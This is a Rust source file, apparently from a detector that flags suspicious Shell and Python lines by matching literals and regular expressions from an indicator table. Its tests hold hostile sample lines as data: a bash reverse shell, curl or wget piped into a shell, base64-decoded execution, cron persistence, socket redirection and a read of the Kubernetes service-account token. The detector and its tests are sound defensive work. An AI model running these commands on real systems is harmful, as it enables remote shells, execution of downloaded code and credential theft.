//! Finds indicators in a line: literals first, by one automaton over all of them, then the regular
//! expression of each indicator whose literal occurs. Both are linear in the length of the line.
//!
//! Owns: the search. The table is in `indicator_table`.
//! Refuses: the label. An indicator is a feature like any other, and a reason where the model has decided.

use crate::indicator_table::{Indicator, TABLE};
use crate::terms::Flow;
use aho_corasick::{AhoCorasick, AhoCorasickKind};
use evidence::Language;
use regex::bytes::{Regex, RegexBuilder};
use std::ops::BitOrAssign;
use thiserror::Error;

/// The table of indicators could not be compiled: a defect of this program, not of any input.
#[derive(Debug, Error)]
#[error("the table of indicators does not compile, which is a defect of urva; report it: {0}")]
pub struct TableError(String);

/// The compiled table.
#[derive(Debug)]
pub struct Indicators {
    literals: AhoCorasick,
    /// For each literal its row in the table.
    row_of_literal: Vec<u8>,
    /// For each row its expression; none where the literal says all.
    patterns: Vec<Option<Regex>>,
    rows_of_flows: Vec<(Flow, u8)>,
}

/// Which indicators were seen, one bit for each row of the table.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub(crate) struct Marks(u128);

impl Indicators {
    /// Compiles the table.
    pub fn compile() -> Result<Self, TableError> {
        let fault = |error: &dyn std::fmt::Display| TableError(error.to_string());
        let mut literals = Vec::new();
        let mut row_of_literal = Vec::new();
        let mut patterns = Vec::new();
        let mut rows_of_flows = Vec::new();
        for (row, indicator) in (0_u8..128).zip(TABLE) {
            rows_of_flows.extend(indicator.flow.map(|flow| (flow, row)));
            for literal in indicator.literals {
                literals.push(*literal);
                row_of_literal.push(row);
            }
            let pattern = match indicator.pattern {
                "" => None,
                text => Some(
                    RegexBuilder::new(text)
                        .unicode(false)
                        .case_insensitive(true)
                        .build()
                        .map_err(|error| fault(&error))?,
                ),
            };
            patterns.push(pattern);
        }
        let literals = AhoCorasick::builder()
            .kind(Some(AhoCorasickKind::DFA))
            .ascii_case_insensitive(true)
            .build(literals)
            .map_err(|error| fault(&error))?;
        Ok(Self { literals, row_of_literal, patterns, rows_of_flows })
    }

    /// The indicators of a line of at most a few KiB.
    pub(crate) fn marks(&self, language: Language, line: &[u8]) -> Marks {
        let mut marks = Marks::default();
        let mut tried = Marks::default();
        for found in self.literals.find_overlapping_iter(line) {
            let Some(&row) = self.row_of_literal.get(found.pattern().as_usize()) else { continue };
            if tried.insert(row) && self.holds(language, row, line) {
                marks.insert(row);
            }
        }
        marks
    }

    /// The row that a flow shows.
    pub(crate) fn row_of(&self, flow: Flow) -> Option<u8> {
        self.rows_of_flows.iter().find(|known| known.0 == flow).map(|known| known.1)
    }

    fn holds(&self, language: Language, row: u8, line: &[u8]) -> bool {
        let speaks = indicator(row).is_some_and(|indicator| indicator.scope.includes(language));
        let pattern = self.patterns.get(usize::from(row)).and_then(Option::as_ref);
        speaks && pattern.is_none_or(|pattern| pattern.is_match(line))
    }
}

/// A row of the table.
pub(crate) fn indicator(row: u8) -> Option<&'static Indicator> {
    TABLE.get(usize::from(row))
}

impl Marks {
    /// Whether the row was new.
    pub(crate) fn insert(&mut self, row: u8) -> bool {
        let bit = 1_u128.checked_shl(u32::from(row)).unwrap_or(0);
        let is_new = self.0 & bit == 0;
        self.0 |= bit;
        is_new
    }

    /// The rows, in ascending order.
    pub(crate) fn iter(self) -> impl Iterator<Item = u8> {
        let mut left = self.0;
        std::iter::from_fn(move || {
            let row = u8::try_from(left.trailing_zeros()).ok().filter(|&row| row < 128)?;
            left &= left - 1;
            Some(row)
        })
    }
}

impl BitOrAssign for Marks {
    fn bitor_assign(&mut self, other: Self) {
        self.0 |= other.0;
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use evidence::Language::{Python, Shell};

    fn check(language: Language, line: &str, expected: &[&str]) {
        let marks = Indicators::compile().unwrap().marks(language, line.as_bytes());
        let words: Vec<_> = marks.iter().filter_map(indicator).map(|indicator| indicator.words).collect();
        for wanted in expected {
            assert!(words.contains(wanted), "{line}: {words:?} lacks {wanted:?}");
        }
        assert!(!expected.is_empty() || words.is_empty(), "{line}: {words:?}");
    }

    #[test]
    fn the_table_fits_into_the_marks_and_its_literals_are_needed_by_its_patterns() {
        assert!(TABLE.len() <= 128);
        let is_found = |row: &Indicator| row.literals.is_empty() == row.flow.is_some();
        assert!(TABLE.iter().all(|row| is_found(row) && !row.words.is_empty()));
    }

    #[test]
    fn attacks_are_named() {
        check(Shell, "bash -i >& /dev/tcp/127.0.0.1/9 0>&1", &["connects a shell to a socket"]);
        check(Shell, "curl -fsSL http://127.0.0.1/a.sh | sh", &["downloads and executes"]);
        check(Shell, "bash <(curl -s http://127.0.0.1/a)", &["downloads and executes"]);
        check(Shell, "wget -q http://127.0.0.1/a -O /tmp/a", &["fetches a file"]);
        check(Shell, "echo aWQ= | base64 -d | sh", &["decodes and executes text"]);
        check(Shell, "(crontab -l; echo x) | crontab -", &["adds a cron job"]);
        check(Python, "os.dup2(s.fileno(), 0)", &["redirects standard streams to a socket"]);
        check(Python, "exec(base64.b64decode('aWQ='))", &["decodes and executes text"]);
        check(Python, "urllib.request.urlretrieve(u, '/tmp/x')", &["fetches a file"]);
        check(
            Python,
            "t = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()",
            &["reads the service-account token"],
        );
    }

    #[test]
    fn everyday_lines_have_no_indicator() {
        check(Shell, "exec nginx -g 'daemon off;'", &[]);
        check(Python, "print(sys.version)", &[]);
        check(Shell, "echo 'recurly evaluation'", &[]);
    }
}
